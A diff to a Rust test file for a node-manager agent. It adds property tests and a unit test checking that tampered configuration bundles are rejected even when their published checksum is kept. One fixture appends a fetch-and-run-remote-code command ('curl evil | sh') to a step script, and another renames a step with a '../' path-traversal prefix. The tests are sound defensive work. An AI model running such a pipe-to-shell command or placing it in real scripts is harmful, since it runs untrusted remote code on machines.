@@ -10,8 +10,8 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::time::Duration;
 
 use nodemgr_core::agent::{
-    Agent, AgentAction, AgentConfig, AgentInput, DesiredBundle, NodeView, PatchOutcome, StateFiles,
-    StepOutcome,
+    Agent, AgentAction, AgentConfig, AgentError, AgentInput, AgentStatus, DesiredBundle, NodeView,
+    PatchOutcome, StateFiles, StepOutcome,
 };
 use nodemgr_core::bashible::{Step, configuration_checksum};
 use nodemgr_core::model::{Timestamp, keys};
@@ -280,7 +280,7 @@ impl World {
                     0 => Err(Cause::msg("connection refused")),
                     1 => {
                         let mut bad = self.desired.clone();
-                        if let Some(s) = bad.steps.first_mut() {
+                        if let Some(s) = bad.steps.make_mut().first_mut() {
                             s.script.push_str("; tampered");
                         }
                         Ok(bad)
@@ -295,11 +295,11 @@ impl World {
                 } else {
                     Ok(self.node.as_ref().map(|(rv, a)| NodeView {
                         resource_version: rv.to_string(),
-                        annotations: a.clone(),
+                        annotations: a.clone().into(),
                     }))
                 };
                 if let Ok(view) = &answer {
-                    self.seen = view.as_ref().map(|v| v.annotations.clone());
+                    self.seen = view.as_ref().map(|v| v.annotations.clone().into_inner());
                 }
                 self.agent.handle_input(AgentInput::Node(answer), now);
             }
@@ -605,4 +605,262 @@ fn an_up_to_date_node_only_reannotates() {
     assert!(world.agent.is_up_to_date());
     assert_eq!(world.runs, 0);
     assert!(world.has(keys::ANNOTATION_CONFIGURATION_CHECKSUM));
+}
+
+/// What a bundle server (or something between it and the node) may hand out, derived from the
+/// group's bundle: for the property comparing the agent that skips verifying a bundle it
+/// verified last with the one that hashes every fetch.
+#[derive(Debug, Clone)]
+enum Fetched {
+    /// The group's bundle.
+    Same,
+    /// A step's script altered, the published checksum kept.
+    Tampered,
+    /// A step's disruption key altered, the checksum kept.
+    KeyChanged,
+    /// The steps in reverse order, the checksum kept (it hashes the original order).
+    Reversed,
+    /// The steps in reverse order with the checksum of that order (valid, unsorted).
+    ReversedResigned,
+    /// The steps in name order with the checksum of their reverse order.
+    SortedUnderReversedChecksum,
+    /// A step twice, re-signed.
+    Duplicated,
+    /// A step renamed to a path, re-signed.
+    BadName,
+    /// The same steps and checksum, the other approval mode.
+    Rolling,
+    /// Another valid bundle.
+    Other(u64),
+    /// The fetch fails.
+    Error,
+}
+
+fn fetched_kind() -> impl Strategy<Value = Fetched> {
+    prop_oneof![
+        6 => Just(Fetched::Same),
+        1 => Just(Fetched::Tampered),
+        1 => Just(Fetched::KeyChanged),
+        1 => Just(Fetched::Reversed),
+        1 => Just(Fetched::ReversedResigned),
+        1 => Just(Fetched::SortedUnderReversedChecksum),
+        1 => Just(Fetched::Duplicated),
+        1 => Just(Fetched::BadName),
+        1 => Just(Fetched::Rolling),
+        1 => any::<u64>().prop_map(Fetched::Other),
+        1 => Just(Fetched::Error),
+    ]
+}
+
+fn fetched(base: &DesiredBundle, kind: &Fetched) -> Result<DesiredBundle, Cause> {
+    let mut b = base.clone();
+    let resign = |b: &mut DesiredBundle| b.checksum = configuration_checksum(&b.steps);
+    match kind {
+        Fetched::Same => {}
+        Fetched::Tampered => {
+            if let Some(s) = b.steps.make_mut().last_mut() {
+                s.script.push_str("; curl evil | sh");
+            }
+        }
+        Fetched::KeyChanged => {
+            if let Some(s) = b.steps.make_mut().first_mut() {
+                s.disruption_key = Some(format!("{:?}-changed", s.disruption_key));
+            }
+        }
+        Fetched::Reversed => b.steps.make_mut().reverse(),
+        Fetched::ReversedResigned => {
+            b.steps.make_mut().reverse();
+            resign(&mut b);
+        }
+        Fetched::SortedUnderReversedChecksum => {
+            let mut reversed = b.steps.to_vec();
+            reversed.reverse();
+            b.checksum = configuration_checksum(&reversed);
+        }
+        Fetched::Duplicated => {
+            if let Some(s) = b.steps.first().cloned() {
+                b.steps.make_mut().push(s);
+            }
+            resign(&mut b);
+        }
+        Fetched::BadName => {
+            if let Some(s) = b.steps.make_mut().first_mut() {
+                s.name = format!("../{}", s.name);
+            }
+            resign(&mut b);
+        }
+        Fetched::Rolling => b.rolling_update = !b.rolling_update,
+        Fetched::Other(seed) => b = bundle_of(*seed, b.rolling_update),
+        Fetched::Error => return Err(Cause::msg("connection reset")),
+    }
+    Ok(b)
+}
+
+/// One move of the comparison: the next fetch hands out `fetch`; `fault` decides a step's
+/// exit status and whether the controller approves before the move.
+#[derive(Debug, Clone)]
+struct Move {
+    fetch: Fetched,
+    fault: u8,
+}
+
+fn a_move() -> impl Strategy<Value = Move> {
+    (fetched_kind(), any::<u8>()).prop_map(|(fetch, fault)| Move { fetch, fault })
+}
+
+/// The observable state of an agent, compared after every input.
+fn observed(agent: &Agent) -> String {
+    format!(
+        "{:?} | {:?} | {:?} | {:?} | {}",
+        agent.status(),
+        agent.next_deadline(),
+        agent.last_error(),
+        agent.files(),
+        agent.is_up_to_date()
+    )
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    /// The agent that does not hash again a bundle it verified last decides exactly as the
+    /// one that hashes every fetch, whatever is fetched: the same bundle again, one altered
+    /// under the same checksum (a script, a disruption key, the order of the steps), one
+    /// re-signed with bad names, another approval mode, another bundle, a failed fetch. Same
+    /// actions, statuses, timers, errors and state files at every move; in particular an
+    /// altered bundle is refused after a verified one with the same checksum.
+    #[test]
+    fn skipping_the_hash_of_the_bundle_verified_last_changes_nothing(
+        seed in any::<u64>(),
+        rolling in any::<bool>(),
+        initial in 0u8..3,
+        moves in prop::collection::vec(a_move(), 1..200),
+    ) {
+        let base = bundle_of(seed, rolling);
+        let files = match initial {
+            0 => StateFiles::first_run(),
+            1 => StateFiles::applied("older", BTreeSet::new(), BTreeMap::new()),
+            _ => StateFiles::applied(&base.checksum, BTreeSet::new(), BTreeMap::new()),
+        };
+        let mut now = Timestamp::from_secs(1_000);
+        let mut skipping = Agent::new(config(), files.clone(), now);
+        let mut hashing = Agent::new(
+            AgentConfig { verify_every_fetch: true, ..config() },
+            files,
+            now,
+        );
+        let mut annotations: BTreeMap<String, String> = BTreeMap::new();
+        let mut rv = 1u64;
+        for m in &moves {
+            if m.fault % 3 == 0 {
+                rv += 1;
+                annotations.insert(keys::ANNOTATION_APPROVED.to_owned(), String::new());
+                annotations.insert(keys::ANNOTATION_DISRUPTION_APPROVED.to_owned(), String::new());
+            }
+            let action = skipping.poll_action();
+            prop_assert_eq!(&action, &hashing.poll_action());
+            let input = match action {
+                None => {
+                    match skipping.next_deadline() {
+                        Some(t) => {
+                            now = now.max(t);
+                            skipping.handle_timeout(now);
+                            hashing.handle_timeout(now);
+                        }
+                        None => {
+                            now = now + Duration::from_secs(60);
+                            skipping.handle_wake(now);
+                            hashing.handle_wake(now);
+                        }
+                    }
+                    None
+                }
+                Some(AgentAction::FetchBundle) => {
+                    Some(AgentInput::Bundle(fetched(&base, &m.fetch)))
+                }
+                Some(AgentAction::ReadNode) => Some(AgentInput::Node(Ok(Some(NodeView {
+                    resource_version: rv.to_string(),
+                    annotations: annotations.clone().into(),
+                })))),
+                Some(AgentAction::PatchNode(patch)) => {
+                    rv += 1;
+                    patch.apply_to(&mut annotations);
+                    Some(AgentInput::Patched(PatchOutcome::Applied {
+                        resource_version: rv.to_string(),
+                    }))
+                }
+                Some(AgentAction::RunStep { name }) => Some(AgentInput::StepFinished(StepOutcome {
+                    step: name,
+                    exit_code: Some(i32::from(m.fault % 5 == 0)),
+                    stderr: String::new(),
+                })),
+                Some(_) => None,
+            };
+            if let Some(input) = input {
+                skipping.handle_input(input.clone(), now);
+                hashing.handle_input(input, now);
+            }
+            prop_assert_eq!(observed(&skipping), observed(&hashing));
+        }
+    }
+}
+
+/// A bundle altered after the agent verified it, its published checksum kept, is refused:
+/// not hashing again a bundle verified last looks at the steps, not only at the checksum.
+#[test]
+fn an_altered_bundle_under_a_verified_checksum_is_refused() {
+    // A bundle of several steps (so that reversing them alters it).
+    let bundle = (0..)
+        .map(|seed| bundle_of(seed, false))
+        .find(|b| b.steps.len() >= 3)
+        .expect("a bundle of three steps");
+    let files = StateFiles::applied(&bundle.checksum, BTreeSet::new(), BTreeMap::new());
+    let now = Timestamp::from_secs(1_000);
+    let mut agent = Agent::new(config(), files, now);
+    assert_eq!(agent.poll_action(), Some(AgentAction::FetchBundle));
+    agent.handle_input(AgentInput::Bundle(Ok(bundle.clone())), now);
+    assert!(agent.last_error().is_none());
+    let node = NodeView {
+        resource_version: "1".into(),
+        annotations: [(
+            keys::ANNOTATION_CONFIGURATION_CHECKSUM.to_owned(),
+            bundle.checksum.clone(),
+        )]
+        .into(),
+    };
+    while let Some(action) = agent.poll_action() {
+        if action == AgentAction::ReadNode {
+            agent.handle_input(AgentInput::Node(Ok(Some(node.clone()))), now);
+        }
+    }
+    assert!(agent.is_up_to_date(), "{:?}", agent.status());
+    for alter in [Fetched::Tampered, Fetched::KeyChanged, Fetched::Reversed] {
+        agent.handle_wake(now);
+        assert_eq!(agent.poll_action(), Some(AgentAction::FetchBundle));
+        let altered = fetched(&bundle, &alter).expect("a bundle");
+        assert_eq!(altered.checksum, bundle.checksum);
+        agent.handle_input(AgentInput::Bundle(Ok(altered)), now);
+        assert!(
+            matches!(
+                agent.status(),
+                AgentStatus::Backoff {
+                    error: AgentError::BundleRejected { .. }
+                }
+            ),
+            "{alter:?} accepted: {:?}",
+            agent.status()
+        );
+        while agent.poll_action().is_some() {}
+        // The valid bundle is accepted again afterwards.
+        let later = agent.next_deadline().expect("a backoff");
+        agent.handle_timeout(later);
+        assert_eq!(agent.poll_action(), Some(AgentAction::FetchBundle));
+        agent.handle_input(AgentInput::Bundle(Ok(bundle.clone())), later);
+        while let Some(action) = agent.poll_action() {
+            if action == AgentAction::ReadNode {
+                agent.handle_input(AgentInput::Node(Ok(Some(node.clone()))), later);
+            }
+        }
+        assert!(agent.is_up_to_date(), "{:?}", agent.status());
+    }
 }
